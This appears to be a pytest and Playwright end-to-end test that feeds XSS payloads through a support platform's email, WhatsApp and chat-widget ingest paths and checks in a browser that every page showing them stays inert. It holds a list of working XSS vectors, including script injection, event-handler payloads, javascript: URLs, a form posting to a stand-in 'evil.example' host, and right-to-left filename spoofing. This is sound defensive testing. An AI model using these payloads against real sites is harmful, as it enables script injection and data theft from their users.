"""Issue 23's "customer content is hostile", done means: XSS payloads go in ONLY through the real
edges — a mail over SMTP into email_ingest (subject, From name, text, HTML body, attachment
names and types), signed WhatsApp webhooks into social_ingest (profile name, text, a document's
name and caption), the widget's socket into chat_gateway (the site-signed name, text) — and
every page that shows them is opened in Chromium: no dialog, no canary set, no blocked-script
report, no request to another origin, the HTML mail only in a sandboxed iframe, attachments
with the download headers, and no serious or critical axe violation.

The edges are the session's (``customers``: each service's own app on the session's broker);
the unifier runs in the test's process on the same broker and the email edge's blob folder, so
the browser signs in through ``tests.workspace``.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import formataddr, formatdate
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi import FastAPI
from playwright.async_api import (
    BrowserContext,
    ConsoleMessage,
    Dialog,
    Page,
    Response,
    async_playwright,
)
from pydantic import SecretStr

from hotline_tools.devstack import persona as pe
from tests.browser import ARGS, CHROMIUM
from tests.e2e.identity.harness import eventually
from tests.e2e.workspace.a11y import assert_accessible, screenshot
from tests.e2e.workspace.customers import Customers
from tests.integration.unifier.harness import settings_for
from tests.integration.unifier.server import serving
from tests.workspace import sign_in
from unifier.entrypoints.app import create_app

pytestmark = pytest.mark.e2e
TOKEN = "hostile-agent-token"
EVIL = "http://evil.example"
CANARY = "__pwned"
SET = f"window.{CANARY}=1;alert(1)"
PAYLOADS = [
    f"<script>{SET}</script>",
    f'<img src=x onerror="{SET}">',
    f'"><svg onload="{SET}"><circle r=9 /></svg>',
    f"javascript:{SET}",
    f"data:text/html,<script>{SET}</script>",
    f'<a href="javascript:{SET}">click me</a>',
    f'<div style="background:url(javascript:{SET});width:expression({SET})">css</div>',
    f'<p style="background-image:url({EVIL}/bg.png)">tracked</p>',
    f"</textarea><script>{SET}</script>",
    f"</title><script>{SET}</script>",
    f"<<script>script>{SET}<</script>/script>",
    f'<iframe src="javascript:{SET}"></iframe><object data="{EVIL}/x.swf"></object>',
    f'<img src="{EVIL}/pixel.gif" width="1" height="1">',
    f'<link rel="stylesheet" href="{EVIL}/x.css"><style>@import "{EVIL}/y.css";</style>',
    f'<form action="{EVIL}/steal"><input name=p autofocus onfocus="{SET}"></form>',
    f'<b>unclosed <i>markup <a href="{EVIL}/ok">a link</a>',
    "\u202etxt.exe \u2067isolated\u2069 right-to-left override",
]
ALL = "\n".join(PAYLOADS)
NAME = f'<img src=x onerror="{SET}">\u202eEve</title><script>{SET}</script>'
EVE = pe.Persona(
    name=NAME,
    email="eve@example.test",
    phone="+4917699988877",
    slack_user="UEVE0001",
    telegram_id=6660001,
    site_user="shop-user-666",
)
FILE_NAME = f'"><svg onload="{SET}">\u202egnp.exe'


def png() -> bytes:
    """A real 2x2 PNG, to be shown inline because of its bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    ihdr = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    sig = b"\x89PNG\r\n\x1a\n"
    return sig + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def hostile_mail(to: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = formataddr((NAME, EVE.email))
    msg["To"] = to
    msg["Subject"] = "Order \u202e" + PAYLOADS[0] + PAYLOADS[9]
    msg["Message-ID"] = "<hostile-1@example.test>"
    msg["Date"] = formatdate(usegmt=True)
    msg.set_content(ALL + "\n")
    logo = '<img src="cid:logo@hostile.example" alt="inline logo">'
    msg.add_alternative(f"<html><body>{ALL}{logo}</body></html>", subtype="html")
    html_part = msg.get_payload()[1]  # type: ignore[index]
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(png(), maintype="image", subtype="png", cid="<logo@hostile.example>")
    msg.add_attachment(png(), maintype="application", subtype="octet-stream", filename="r.png")
    page = f"<html><script>{SET}</script></html>".encode()
    msg.add_attachment(page, maintype="image", subtype="png", filename=FILE_NAME)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SET}"/>'.encode()
    msg.add_attachment(svg, maintype="image", subtype="svg+xml", filename="logo.svg")
    msg.add_attachment(page, maintype="text", subtype="html", filename="invoice.html")
    return msg.as_bytes()


@dataclass
class Hotline:
    customers: Customers
    tenant: str
    app: FastAPI
    base: str  # the unifier

    async def api(self, path: str) -> Any:
        headers = {"Authorization": f"Bearer {TOKEN}"}
        async with httpx.AsyncClient(base_url=self.base, timeout=15) as client:
            r = await client.get(f"/api/tenants/{self.tenant}{path}", headers=headers)
        assert r.status_code == 200, r.text
        return r.json()


@pytest.fixture(scope="module")
async def hotline(
    kafka: str, customers: Customers, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Hotline]:
    """The unifier in this process, on the edges' broker and the email edge's blob folder."""
    tenant = customers.tenant()
    settings = settings_for(
        kafka,
        f"sqlite:///{tmp_path_factory.mktemp('hostile')}/unifier.db",
        api_tokens={tenant: SecretStr(TOKEN)},
        blob_dir=customers.blob_dir,  # where the email edge stores them (HOTLINE_BLOB_DIR)
    )
    app = create_app(settings)
    async with serving(app) as base:
        yield Hotline(customers, tenant, app, base)


async def send_everything(h: Hotline) -> None:
    c, tenant = h.customers, h.tenant
    await c.send_mail(tenant, EVE.email, hostile_mail(c.slot(tenant).mailbox))
    document = {
        "type": "document",
        "document": {
            "id": "MEDIA-666",
            "mime_type": f'text/html"><script>{SET}</script>',
            "filename": FILE_NAME,
            "caption": ALL,
        },
    }
    for message in ({"type": "text", "text": {"body": ALL}}, document):
        await c.whatsapp_message(tenant, EVE.phone, message, name=NAME)  # her hostile profile
    token = c.site_identity(tenant, EVE.site_user, email=EVE.email, phone=EVE.phone, name=NAME)
    await c.widget(tenant, ALL, identity_token=token)


async def stored_messages(h: Hotline) -> list[dict[str, Any]]:
    async def all_there() -> list[dict[str, Any]]:
        found = []
        for conv in await h.api("/conversations"):
            found += (await h.api(f"/conversations/{conv['thread_id']}"))["messages"]
        return found if len(found) >= 4 else []

    found: list[dict[str, Any]] = await eventually(all_there, timeout=60)
    return found


@dataclass
class Watch:
    """Everything the page did that a payload could have caused."""

    origin: str
    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)

    def attach(self, page: Page) -> None:
        page.on("dialog", self._dialog)
        page.on("request", lambda r: self._request(r.url))
        page.on("console", self._console)
        page.on("response", self._response)

    def _response(self, response: Response) -> None:
        if response.status >= 400:
            self.failed.append(f"{response.status} {response.url}")

    async def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    def _request(self, url: str) -> None:
        parts = urlsplit(url)
        if (
            parts.scheme not in ("data", "about", "blob")
            and url.split("/")[:3] != self.origin.split("/")[:3]
        ):
            self.foreign.append(url)

    def _console(self, msg: ConsoleMessage) -> None:
        if msg.type == "error" and not msg.text.startswith("Failed to load resource"):
            self.console.append(msg.text)  # a CSP refusal, a blocked script, a script's error

    def assert_inert(self, expected_failures: set[str]) -> None:
        assert self.dialogs == [], self.dialogs
        assert self.foreign == [], self.foreign
        assert self.console == [], self.console
        assert {f.split("?")[0] for f in self.failed} <= expected_failures, self.failed


async def canary_unset(page: Page) -> None:
    assert await page.evaluate(f"typeof window.{CANARY}") == "undefined"


async def no_bidi_controls(page: Page) -> None:
    text = await page.evaluate("document.body.innerText")
    assert "\u202e" not in text and "\u2067" not in text


async def open_page(context: BrowserContext, watch: Watch, url: str) -> Page:
    page = await context.new_page()
    watch.attach(page)
    await page.goto(url)
    await page.wait_for_load_state("networkidle")
    return page


async def check_message_page(context: BrowserContext, watch: Watch, m: dict[str, Any]) -> Page:
    page = await open_page(context, watch, f"{watch.origin}/inbox/messages/{m['message_id']}")
    content = page.locator(".content")
    assert "<script>" in await content.inner_text()  # shown as text, not dropped or run
    if m["has_html"]:
        await page.locator(".html-body summary").click()
        frame = page.locator("iframe.html-mail")
        sandbox = await frame.get_attribute("sandbox")
        assert sandbox is not None and "allow-scripts" not in sandbox
        assert "allow-same-origin" not in sandbox
        body = page.frame_locator("iframe.html-mail").locator("body")
        assert "a link" in await body.inner_text()
        logo = page.frame_locator("iframe.html-mail").locator("img[alt='inline logo']")
        assert await logo.evaluate("img => img.complete && img.naturalWidth") == 2  # cid: shown
        await page.wait_for_load_state("networkidle")
    await canary_unset(page)
    await no_bidi_controls(page)
    await assert_accessible(page)
    return page


async def check_downloads(context: BrowserContext, base: str, m: dict[str, Any]) -> None:
    url = f"{base}/inbox/messages/{m['message_id']}/attachments"
    for a in m["attachments"]:
        r = await context.request.get(f"{url}/{a['index']}")
        if not a["stored"]:
            assert r.status == 404 and "MEDIA-666" in await r.text()
            continue
        assert r.status == 200 and r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["content-security-policy"].startswith("default-src 'none'")
        disposition = r.headers["content-disposition"]
        assert "\u202e" not in disposition and "<" not in disposition.split("filename*")[0]
        # the real PNGs (declared octet-stream; the HTML body's inline logo), nothing else
        inline = a["filename"] in ("r.png", None)
        assert disposition.startswith("inline; " if inline else "attachment; "), a
        assert r.headers["content-type"] == ("image/png" if inline else "application/octet-stream")


async def test_hostile_content_stays_inert_in_the_browser(hotline: Hotline) -> None:
    await send_everything(hotline)
    messages = await stored_messages(hotline)
    assert {m["channel_kind"] for m in messages} == {"email", "whatsapp", "widget"}
    mail = next(m for m in messages if m["channel_kind"] == "email")
    assert mail["has_html"] and len(mail["attachments"]) == 5
    async with async_playwright() as pw:
        browser = await pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            context = await browser.new_context()
            await sign_in(context, hotline.base, hotline.app, hotline.tenant, name="Ana")
            watch = Watch(hotline.base)
            for m in messages:
                page = await check_message_page(context, watch, m)
                await check_downloads(context, hotline.base, m)
                if m is mail:
                    assert await page.locator(".attachment img").count() == 2
                    await screenshot(page, "hostile-content-email")
                    await screenshot(page, "hostile-content-html-mail", "iframe.html-mail")
                await page.close()  # each page's live stream holds one of the host's 6 sockets
            threads = {m["thread_id"] for m in messages}
            for t in threads:  # the thread view and the inbox with it open
                page = await open_page(context, watch, f"{hotline.base}/inbox/conversations/{t}")
                await canary_unset(page)
                await no_bidi_controls(page)
                await assert_accessible(page)
                await page.close()
                page = await context.new_page()  # its live stream never lets the network idle
                watch.attach(page)
                await page.goto(f"{hotline.base}/inbox?c={t}")
                await page.wait_for_selector("#thread .timeline", timeout=10_000)
                await canary_unset(page)
                await no_bidi_controls(page)
                await page.close()
            html = await open_page(
                context, watch, f"{hotline.base}/inbox/messages/{mail['message_id']}/html"
            )
            await canary_unset(html)
            await no_bidi_controls(html)
            watch.assert_inert({f"404 {hotline.base}/favicon.ico"})
        finally:
            await browser.close()
